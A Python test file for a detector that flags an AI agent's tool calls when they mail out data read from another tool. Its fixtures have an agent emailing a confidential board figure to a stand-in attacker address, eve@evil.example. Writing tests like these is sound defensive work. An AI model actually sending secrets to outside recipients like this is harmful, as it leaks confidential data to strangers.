"""Data that leaves is told by where it came from and who gets it."""

from callgate.review.finding import History, Severity
from fakes.steps import a_step, found_in, refused, structured, text

SECRET = "The quarterly figures show a loss of twelve million and the board will not tell anybody"
KNOWN = History(
    calls=100,
    tools=frozenset({"mail___send_email"}),
    recipients=frozenset({"bob@example.com"}),
    domains=frozenset({"example.com"}),
)
READ = a_step("files___read_file", {"path": "board.txt"}, text(SECRET))


def test_what_another_target_told_goes_to_a_stranger() -> None:
    (found,) = found_in("unusual_sink", [READ, a_step("mail___send_email", {"to": "eve@evil.example", "body": SECRET})], KNOWN)  # fmt: skip

    assert found.severity is Severity.WARNING
    assert "files___read_file had returned left with mail___send_email to eve@evil.example" in (
        found.sentence
    )
    assert [(place.step, place.of, place.path) for place in found.places] == [
        (1, "result", "/content/0/text"),
        (2, "arguments", "/body"),
    ]


def test_what_is_labelled_is_told_whoever_gets_it() -> None:
    labelled = a_step("mail___read", {}, text(SECRET), labels=("confidential",))
    (found,) = found_in("unusual_sink", [labelled, a_step("mail___send_email", {"to": "bob@example.com", "body": SECRET})], KNOWN)  # fmt: skip

    assert "labelled confidential" in found.sentence


def test_known_receivers_and_the_same_target_are_none() -> None:
    to_bob = a_step("mail___send_email", {"to": "bob@example.com", "body": SECRET})
    same = a_step("mail___read_mail", {}, text(SECRET))
    to_eve = a_step("mail___send_email", {"to": "eve@evil.example", "body": SECRET})

    assert not found_in("unusual_sink", [READ, to_bob], KNOWN)
    assert not found_in("unusual_sink", [same, to_eve], KNOWN)


def test_an_id_a_receiver_out_of_an_address_book_and_refusals_are_none() -> None:
    book = a_step("crm___find", {}, structured(email="eve@strange.example", id="A-1002-XK"))
    body = {"to": "eve@strange.example", "body": "About A-1002-XK: it is done."}

    assert not found_in("unusual_sink", [book, a_step("mail___send_email", body)], KNOWN)
    assert not found_in("unusual_sink", [READ, refused("mail___send_email", {"to": "eve@evil.example", "body": SECRET})], KNOWN)  # fmt: skip
